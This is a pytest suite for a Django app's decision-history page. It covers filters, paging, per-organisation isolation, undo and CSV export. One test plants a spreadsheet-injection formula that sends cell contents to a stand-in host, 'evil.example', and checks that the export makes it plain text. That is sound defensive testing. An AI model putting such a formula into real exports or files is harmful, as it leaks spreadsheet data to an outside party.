"""The history of decisions: who sees what of it, how it is narrowed, exported and taken back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable, Sequence
from typing import Any

import pytest
import time_machine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from pytest_django import DjangoAssertNumQueries

from accounts import selectors as accounts_selectors
from accounts import services as accounts_services
from accounts.actors import Actor
from accounts.models import Membership, User
from accounts.permissions import Role
from accounts.services import NewCredential
from common import spreadsheets
from dashboard import exports
from lists import services as lists_services
from lists.list_settings import ListSettings
from lists.models import Item, List
from review.clusters import selectors as clusters_selectors
from review.models import Act, Decision, MatchCandidate, State
from review.pairs import activity, transitions
from review.pairs import services as pairs_services
from tests import bare_pairs, hooks, team
from verdicts import activity as verdicts_activity
from verdicts import services as verdicts_services
from verdicts.models import Verdict
from verdicts.values import VerdictContent

QUERIES = 13


@pytest.fixture
def analyst(make_user: Callable[..., User]) -> User:
    return make_user(Role.ANALYST)


@pytest.fixture
def browser(analyst: User) -> Client:
    client = Client()
    client.force_login(analyst)
    return client


@pytest.fixture
def by_analyst(analyst: User) -> Actor:
    return accounts_selectors.actor_for_user(analyst)


def shown(browser: Client, **asked: str) -> list[tuple[str, str]]:
    """Return (match id, act) of the rows of the page."""
    rows = browser.get("/activity/", asked).context["page"].rows
    return [(deed.shown.pair.public_id, deed.decision.act) for deed in rows]


def exported(browser: Client, **asked: str) -> list[dict[str, str]]:
    answer = browser.get("/activity/export/", asked)
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"))))


def test_every_decision_is_shown_with_who_when_what_and_from_where(
    browser: Client,
    analyst: User,
    by_analyst: Actor,
    credential: NewCredential,
    image_list: List,
) -> None:
    first, second, third = bare_pairs.make(3, image_list)
    program = accounts_selectors.actor_for_credential(credential.credential)
    with time_machine.travel(dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC), tick=False):
        pairs_services.dissociate(by=by_analyst, pair=first, note="Another <b>shop</b>")
    pairs_services.confirm(by=program, pair=second)
    transitions.auto_confirm(third)

    deeds = browser.get("/activity/").context["page"].rows
    page = browser.get("/activity/").content.decode()

    assert [deed.decision.get_surface_display() for deed in deeds] == ["System", "API", "Browser"]
    assert [deed.algorithm_version for deed in deeds] == [7, 7, 7]
    for words in (
        analyst.email,
        "Check",  # the credential
        str(Act.AUTO_CONFIRM.label).replace("'", "&#x27;"),
        "March 1, 2026, 9:30 a.m.",
        "Another &lt;b&gt;shop&lt;/b&gt;",
        "0.51",
        "Near copy",
        f"/review/pair/{first.public_id}/",
    ):
        assert words in page


def test_the_page_goes_on_where_it_ended(
    browser: Client, by_analyst: Actor, image_list: List
) -> None:
    pairs = bare_pairs.make(90, image_list)
    for pair in pairs:
        pairs_services.confirm(by=by_analyst, pair=pair)

    seen, after = [], ""
    for _ in range(3):
        page = browser.get("/activity/", {"after": after}).context["page"]
        seen += [deed.shown.pair.pk for deed in page.rows]
        after = str(page.next_after)

    assert seen == [pair.pk for pair in reversed(pairs)]
    assert after == ""


@pytest.mark.parametrize("count", [1, 30])
def test_the_page_asks_as_much_for_many_rows_as_for_one(
    browser: Client,
    by_analyst: Actor,
    image_list: List,
    django_assert_num_queries: DjangoAssertNumQueries,
    count: int,
) -> None:
    for pair in bare_pairs.make(count, image_list):
        pairs_services.confirm(by=by_analyst, pair=pair)
        pairs_services.undo(by=by_analyst, pair=pair)

    with django_assert_num_queries(QUERIES):
        assert len(browser.get("/activity/").context["page"].rows) == min(2 * count, 40)


def test_the_newest_decisions_about_many_pairs_are_found_without_putting_all_in_order(
    by_analyst: Actor, image_list: List, monkeypatch: pytest.MonkeyPatch
) -> None:
    for pair in bare_pairs.make(3, image_list):
        pairs_services.confirm(by=by_analyst, pair=pair)
    monkeypatch.setattr(activity, "_FEW_PAIRS", 2)
    explain = "EXPLAIN" if connection.vendor == "postgresql" else "EXPLAIN QUERY PLAN"

    for wanted in (activity.EVERYTHING, activity.Wanted(image_list=image_list)):
        with CaptureQueriesContext(connection) as queries:
            activity.deeds_page(by_analyst, wanted, after=None, size=2)
        (asked,) = (each["sql"] for each in queries if '"is_overruled"' in each["sql"])
        with connection.cursor() as cursor:
            if connection.vendor == "postgresql":
                # Tables this small are read as a whole, and put in order, where that may be.
                cursor.execute("SET LOCAL enable_seqscan = off")
                cursor.execute("SET LOCAL enable_bitmapscan = off")
                cursor.execute("SET LOCAL enable_sort = off")
            cursor.execute(f"{explain} {asked}")
            plan = "\n".join(str(part) for row in cursor.fetchall() for part in row)
        if connection.vendor == "postgresql":
            assert "Index Scan Backward using review_decision_pkey" in plan, plan
        else:
            assert "TEMP B-TREE" not in plan
            assert "image_list_id=?" not in plan
        # Nor is what undid a decision joined: hardly any did, so SQLite calls its index worthless.
        assert '("review_decision"."id" = T' not in asked


def test_it_is_narrowed_by_who_what_list_and_day(
    browser: Client,
    analyst: User,
    by_analyst: Actor,
    admin: Actor,
    credential: NewCredential,
    image_list: List,
) -> None:
    other = lists_services.create_list(by=admin, settings=ListSettings(name="Other"))
    ours, programs, systems = bare_pairs.make(3, image_list)
    (elsewhere,) = bare_pairs.make(1, other)
    with time_machine.travel(dt.datetime(2026, 3, 1, 23, 59, 59, tzinfo=dt.UTC), tick=False):
        pairs_services.confirm(by=by_analyst, pair=ours)
    with time_machine.travel(dt.datetime(2026, 3, 2, tzinfo=dt.UTC), tick=False):
        pairs_services.dissociate(by=admin, pair=elsewhere)
    pairs_services.confirm(
        by=accounts_selectors.actor_for_credential(credential.credential), pair=programs
    )
    transitions.auto_confirm(systems)

    def found(**asked: str) -> list[str]:
        return [match_id for match_id, _act in shown(browser, **asked)]

    assert found(who=f"person-{analyst.pk}") == [ours.public_id]
    assert found(who=credential.credential.public_id) == [programs.public_id]
    assert found(who="system") == [systems.public_id]
    assert found(what="dissociate") == [elsewhere.public_id]
    assert found(list=other.public_id) == [elsewhere.public_id]
    assert found(until="2026-03-01") == [ours.public_id]
    assert found(since="2026-03-02", until="2026-03-02") == [elsewhere.public_id]
    assert found(list=image_list.public_id, what="confirm", until="2026-03-02") == [ours.public_id]
    assert found(until="9999-12-31", since="0001-01-01", after="x" * 40) == found()


def test_a_filter_that_makes_no_sense_is_named_and_exports_nothing(
    browser: Client, by_analyst: Actor, image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.confirm(by=by_analyst, pair=pair)

    page = browser.get("/activity/", {"who": "person-999999", "since": "soon"})

    assert sorted(hooks.mistakes(page)) == [("since", "invalid"), ("who", "invalid_choice")]
    assert browser.get("/activity/export/", {"since": "soon"}).status_code == 400


def test_who_decided_is_still_found_after_they_left(
    browser: Client, admin: Actor, make_user: Callable[..., User], image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    member = team.add_member(by=admin, email="lena@example.org", role=Role.ANALYST)
    lena = member.membership.user
    pairs_services.confirm(by=accounts_selectors.actor_for_user(lena), pair=pair)
    accounts_services.remove_member(by=admin, membership=Membership.objects.get(user=lena))

    assert shown(browser, who=f"person-{lena.pk}") == [(pair.public_id, "confirm")]


def test_organisations_never_see_each_others_decisions(
    browser: Client,
    by_analyst: Actor,
    stranger: Actor,
    stranger_credential: NewCredential,
    image_list: List,
) -> None:
    foreign = lists_services.create_list(by=stranger, settings=ListSettings(name="Their list"))
    (pair,) = bare_pairs.make(1, image_list)
    theirs, programs = bare_pairs.make(2, foreign)
    pairs_services.confirm(by=by_analyst, pair=pair)
    pairs_services.confirm(by=stranger, pair=theirs, note="Their note")
    pairs_services.confirm(
        by=accounts_selectors.actor_for_credential(stranger_credential.credential),
        pair=programs,
    )
    stranger_email = User.objects.get(membership__organisation=stranger.organisation_id).email

    ours = shown(browser)
    page = browser.get("/activity/").content.decode()
    foreign_asked = {"who": f"person-{stranger.user_id}", "list": foreign.public_id}

    assert ours == [(pair.public_id, "confirm")]
    assert shown(browser, **foreign_asked) == ours
    assert [row["match_id"] for row in exported(browser)] == [pair.public_id]
    for word in ("Their list", "Their note", stranger_email, "Stranger"):
        assert word not in page


def test_a_rejected_pair_is_restored_by_somebody_else(
    browser: Client, admin: Actor, image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.dissociate(by=admin, pair=pair)
    assert hooks.values(browser.get("/activity/"), "undoes") == ["dissociate"]

    answer = browser.post(
        f"/activity/{pair.public_id}/undo/?what=dissociate", {"version": "2"}, follow=True
    )

    assert answer.redirect_chain == [("/activity/?what=dissociate", 302)]
    assert hooks.told(answer) == ["undone"]
    assert len(hooks.values(answer, "taken-back")) == 1
    pair.refresh_from_db()
    assert pair.state == State.SUGGESTED


def test_only_the_last_standing_decision_of_a_pair_is_offered(
    browser: Client, admin: Actor, image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.confirm(by=admin, pair=pair)
    pairs_services.dissociate(by=admin, pair=pair)

    def offered() -> list[tuple[str, bool]]:
        rows = browser.get("/activity/").context["page"].rows
        return [(deed.decision.act, deed.is_last) for deed in rows]

    assert offered() == [("dissociate", True), ("confirm", False)]
    browser.post(f"/activity/{pair.public_id}/undo/", {"version": "3"})
    assert offered() == [("undo", False), ("dissociate", False), ("confirm", True)]
    pair.refresh_from_db()
    assert pair.state == State.CONFIRMED


def test_an_undo_of_what_somebody_changed_since_is_refused_with_reasons(
    browser: Client, admin: Actor, image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.confirm(by=admin, pair=pair)
    pairs_services.dissociate(by=admin, pair=pair)

    answer = browser.post(f"/activity/{pair.public_id}/undo/?what=confirm", {"version": "2"})

    assert answer.status_code == 409
    assert hooks.told(answer) == ["decided_meanwhile"]
    assert [deed.decision.act for deed in answer.context["page"].rows] == ["confirm"]
    pair.refresh_from_db()
    assert pair.state == State.DISSOCIATED


def test_an_undo_without_anything_to_undo_is_refused(browser: Client, image_list: List) -> None:
    (pair,) = bare_pairs.make(1, image_list)

    answer = browser.post(f"/activity/{pair.public_id}/undo/", {"version": "1"})

    assert answer.status_code == 409
    assert hooks.told(answer) == ["nothing_to_undo"]
    assert browser.post(f"/activity/{pair.public_id}/undo/").status_code == 400


def test_the_export_holds_the_rows_of_the_filter(
    browser: Client, analyst: User, by_analyst: Actor, image_list: List
) -> None:
    first, second = bare_pairs.make(2, image_list)
    pairs_services.confirm(by=by_analyst, pair=first, note="a, “b”\nc")
    pairs_services.dissociate(by=by_analyst, pair=second)

    (row,) = exported(browser, what="confirm")

    assert len(exported(browser)) == 2
    assert tuple(row) == tuple(exports.ACTIVITY_COLUMNS)
    assert row["who"] == analyst.email
    assert row["note"] == "a, “b”\nc"
    assert (row["surface"], row["act"], row["from"], row["to"]) == (
        "browser",
        "confirm",
        "suggested",
        "confirmed",
    )
    assert (row["match_id"], row["score"], row["algorithm_version"]) == (
        first.public_id,
        "0.5100",
        "7",
    )


def test_no_cell_of_the_export_is_a_formula(
    browser: Client, by_analyst: Actor, admin: Actor, image_list: List
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    lists_services.change_list(
        by=admin, image_list=image_list, settings=ListSettings(name="@SUM(1)")
    )
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.confirm(by=by_analyst, pair=pair, note=evil)

    (row,) = exported(browser)

    assert row["note"] == f"'{evil}"
    assert row["list"] == "'@SUM(1)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
def test_every_way_to_begin_a_formula_is_made_plain_text(start: str) -> None:
    assert spreadsheets.harmless(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheets.harmless(f"plain {start}1") == f"plain {start}1"


def test_the_export_is_streamed_page_by_page_and_bounded(
    browser: Client,
    by_analyst: Actor,
    image_list: List,
    monkeypatch: pytest.MonkeyPatch,
    django_assert_num_queries: DjangoAssertNumQueries,
) -> None:
    pairs = bare_pairs.make(7, image_list)
    for pair in pairs:
        pairs_services.confirm(by=by_analyst, pair=pair)
    monkeypatch.setattr(verdicts_activity, "_EXPORTED_AT_ONCE", 2)
    monkeypatch.setattr(exports, "MAX_ROWS", 5)

    answer = browser.get("/activity/export/")
    lines = iter(answer)
    next(lines)
    # A page of decisions, the items of their pictures, and what was done about verdicts.
    with django_assert_num_queries(5):
        next(lines)
        next(lines)
    rest = [next(lines) for _ in range(3)]

    assert next(lines, None) is None
    assert len(rest) == 3
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Cache-Control"] == "private, no-store"


def done_about_verdicts(admin: Actor, by_analyst: Actor, image_list: List) -> tuple[Verdict, Item]:
    """Give a verdict about an item, with three decisions before, between and after."""
    pairs = bare_pairs.among("ABCDEF", image_list)
    item = Item.objects.get(custom_id="A")
    said = VerdictContent(rating="=False", title="Not that street")
    pairs_services.confirm(by=by_analyst, pair=pairs["AB"])
    cluster = clusters_selectors.cluster_of(admin, item)
    verdict = verdicts_services.write_draft(by=by_analyst, cluster=cluster, content=said)
    pairs_services.confirm(by=by_analyst, pair=pairs["CD"])
    verdicts_services.publish(by=admin, verdict=verdict)
    verdicts_services.set_grace(by=admin, grace_s=5)
    pairs_services.confirm(by=by_analyst, pair=pairs["EF"])
    return verdict, item


def acts_of(rows: Sequence[Any]) -> list[str]:
    return [each.act.act if hasattr(each, "act") else each.decision.act for each in rows]


def test_acts_about_verdicts_stand_among_the_decisions_by_their_time(
    browser: Client, admin: Actor, by_analyst: Actor, image_list: List
) -> None:
    verdict, item = done_about_verdicts(admin, by_analyst, image_list)

    def acts(**asked: str) -> list[str]:
        return acts_of(browser.get("/activity/", asked).context["page"].rows)

    def who(actor: Actor) -> str:
        return f"person-{actor.user_id}"

    everything = ["confirm", "settings", "publish", "confirm", "draft", "confirm"]
    assert acts() == everything
    assert acts(what="verdict.") == ["settings", "publish", "draft"]
    assert acts(what="verdict.draft") == ["draft"]
    assert acts(what="confirm") == ["confirm"] * 3
    assert acts(who=who(admin)) == ["settings", "publish"]
    assert acts(who=who(by_analyst), what="verdict.") == ["draft"]
    assert acts(list=image_list.public_id, what="verdict.") == ["publish", "draft"]
    assert acts(item=item.public_id, what="verdict.") == ["publish", "draft"]

    seen, place = [], verdicts_activity.HistoryPlace()
    for _ in range(3):
        page = verdicts_activity.rows_page(admin, activity.EVERYTHING, after=place, size=2)
        seen += acts_of(page.rows)
        place = verdicts_activity.HistoryPlace.of(page.next_after)
    assert (seen, place) == (everything, verdicts_activity.HistoryPlace())

    shown = browser.get("/activity/")
    assert hooks.values(shown, "verdict-act") == ["settings", "publish", "draft"]
    rows = exported(browser, what="verdict.publish")
    assert [(row["act"], row["verdict"], row["version"]) for row in rows] == [
        ("verdict.publish", verdict.public_id, "1")
    ]
    assert (rows[0]["rating"], rows[0]["item_id"]) == ("'=False", item.public_id)


def test_the_history_of_a_pair_tells_surface_note_and_algorithm(
    browser: Client, by_analyst: Actor, credential: NewCredential, image_list: List
) -> None:
    (pair,) = bare_pairs.make(1, image_list)
    pairs_services.confirm(by=by_analyst, pair=pair, note="Same shop")
    pairs_services.dissociate(
        by=accounts_selectors.actor_for_credential(credential.credential), pair=pair
    )

    page = browser.get(f"/review/pair/{pair.public_id}/").content.decode()
    history = page[page.index('id="history"') :]

    assert "data-checked-picture" in history
    assert history.index("Check") < history.index("API") < history.index("Browser")
    assert "Same shop" in history
    assert "by version <bdi>7</bdi> of the algorithm" in history
    assert Decision.objects.count() == 2
    assert MatchCandidate.objects.count() == 1
